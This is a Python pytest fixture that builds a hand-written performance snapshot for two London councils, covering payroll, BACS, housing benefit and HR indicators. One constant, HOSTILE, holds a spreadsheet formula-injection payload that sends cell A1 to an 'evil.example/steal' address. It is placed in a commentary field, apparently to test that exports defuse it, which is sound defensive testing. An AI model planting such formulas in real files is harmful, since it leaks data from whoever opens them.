"""A snapshot in the shape `packs.selectors.pack_snapshot` takes, written by
hand (no database): two councils and seed 001's kinds of indicator."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from goldenthread.domain.schemes import Scheme
from goldenthread.reports.statuses import status_tables

MONTHS = ["Apr-19", "May-19", "Jun-19", "Jul-19", "Aug-19", "Sep-19"]
MONTHS += ["Oct-19", "Nov-19", "Dec-19", "Jan-20", "Feb-20", "Mar-20"]
HOSTILE = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click me")'


def value(text: str, amount: str | None, unit: str = "%") -> dict[str, Any]:
    return {"text": text, "amount": amount, "unit": unit}


def months(figures: list[tuple[str, str] | None], target: str, amount: str) -> list[dict]:
    """Twelve months: the given figures (None: not yet available) then not yet due."""
    periods = []
    for index, label in enumerate(MONTHS):
        due = index < len(figures)
        shown = figures[index] if due else None
        periods.append(
            {
                "label": label,
                "value": value(*shown) if shown else value("Not yet available", None),
                "target": target,
                "target_amount": amount,
                "status": ("GREEN" if shown else "INCOMPLETE") if due else None,
            }
        )
    return periods


def indicator(reference: str, title: str, **extra: Any) -> dict[str, Any]:
    base = {
        "reference": reference,
        "title": title,
        "definition": f"Definition of {title}.",
        "directorate": "Exchequer and Transactional",
        "service_area": "Payroll",
        "tier": "operational",
        "unit": "%",
        "decimals": 2,
        "polarity": "up",
        "scheme": "rag",
        "tolerance": "5%",
        "frequency": "monthly",
        "comparison": "same-period-last-year",
    }
    return {**base, **extra}


def figure(reference: str, council: str, shown: dict, status: str, **extra: Any) -> dict:
    base = {
        "indicator": reference,
        "organisation": council,
        "value": shown,
        "target": "100.00%",
        "target_amount": "100",
        "status": status,
        "direction": "DECLINING",
        "movement": "DOWN",
        "last_year": value("99.88%", "99.88"),
        "previous_status": "GREEN",
        "periods": [],
        "breakdowns": [],
        "commentary": None,
    }
    return {**base, **extra}


def make_snapshot() -> dict[str, Any]:
    payroll_months = months(
        [("99.99%", "99.99"), ("99.99%", "99.99"), ("95.63%", "95.63")], "100.00%", "100"
    )
    return {
        "schema": 1,
        "publisher": "oneSource",
        "taken_at": "2019-07-20T09:00:00+00:00",
        "period": {
            "label": "2019/20 Q1",
            "year": "2019/20",
            "quarter": 1,
            "first_month": "2019-04",
            "last_month": "2019-06",
        },
        "council": None,
        "exception_rule": "amber-red",
        # the statuses the figures' codes stand for (reports.statuses), as a pack
        # built since issue 17 keeps them
        **status_tables(Scheme.RAG, [Scheme.RAG]),
        "organisations": [
            {"code": "LBH", "name": "London Borough of Havering", "kind": "council"},
            {"code": "LBN", "name": "London Borough of Newham", "kind": "council"},
        ],
        "indicators": [
            indicator("EX-10", "% of payroll payments made on time"),
            indicator(
                "EX-11",
                "% of BACS processing on time",
                tolerance="2pp",
            ),
            indicator(
                "EX-02",
                "Average number of days for Housing Benefit - new claims",
                service_area="Housing Benefits",
                unit="days",
                decimals=1,
                polarity="down",
            ),
            indicator(
                "HR-01",
                "Average time taken for Job Evaluations",
                directorate="HROD",
                service_area="HR&OD",
                unit="days",
                frequency="quarterly",
                polarity="down",
            ),
            indicator(
                "HR-06",
                "Number of Job Evaluations undertaken",
                directorate="HROD",
                service_area="HR&OD",
                tier="volumetric",
                unit="number",
                polarity="none",
            ),
        ],
        "figures": [
            figure(
                "EX-10",
                "LBH",
                value("98.54%", "98.54"),
                "AMBER",
                periods=payroll_months,
                commentary={
                    "reasons": "Three election payrolls in June.",
                    "difference": "1.46 points below target.",
                    "remedial_actions": HOSTILE,
                },
            ),
            figure(
                "EX-10",
                "LBN",
                value("99.98%", "99.98"),
                "GREEN",
                direction="IMPROVING",
                movement="UP",
                periods=months(
                    [("99.99%", "99.99"), ("99.98%", "99.98"), ("99.98%", "99.98")],
                    "100.00%",
                    "100",
                ),
            ),
            figure("EX-11", "LBH", value("90.00%", "90.00"), "RED", previous_status="AMBER"),
            figure(
                "EX-11",
                "LBN",
                value("100.00%", "100.00"),
                "GREEN",
                direction="MAINTAINED",
                movement="SAME",
            ),
            figure(
                "EX-02",
                "LBH",
                value("22.3 days", "22.3", "days"),
                "RED",
                target="20 days",
                target_amount="20",
                previous_status="GREEN",
                last_year=value("18.0 days", "18.0", "days"),
                periods=months(
                    [("21 days", "21"), ("24 days", "24"), ("22 days", "22")], "20 days", "20"
                ),
            ),
            figure(
                "HR-01",
                "LBN",
                value("Not yet available", None, "days"),
                "INCOMPLETE",
                target="5 days",
                target_amount="5",
                direction=None,
                movement=None,
                breakdowns=[
                    {
                        "name": "HAY",
                        "value": value("12 days", "12", "days"),
                        "status": "RED",
                        "direction": "DECLINING",
                        "movement": "UP",
                        "last_year": value("4.62 days", "4.62", "days"),
                        "periods": [],
                    }
                ],
            ),
            figure(
                "HR-06",
                "LBH",
                value("119", "119", "number"),
                "NO TARGET",
                target="",
                target_amount=None,
                direction="NOT MEASURED",
                movement="UP",
                last_year=value("76", "76", "number"),
                commentary={
                    "reasons": "",
                    "difference": "The moratorium was lifted in January.",
                    "remedial_actions": "",
                },
            ),
        ],
        "returns": {
            "approved": 1,
            "not_approved": [
                {
                    "organisation": "LBH",
                    "service_area": "Exchequer and Transactional: Payroll",
                    "state": "Submitted",
                }
            ],
        },
        "since": None,
    }


@pytest.fixture
def snapshot() -> dict[str, Any]:
    return copy.deepcopy(make_snapshot())
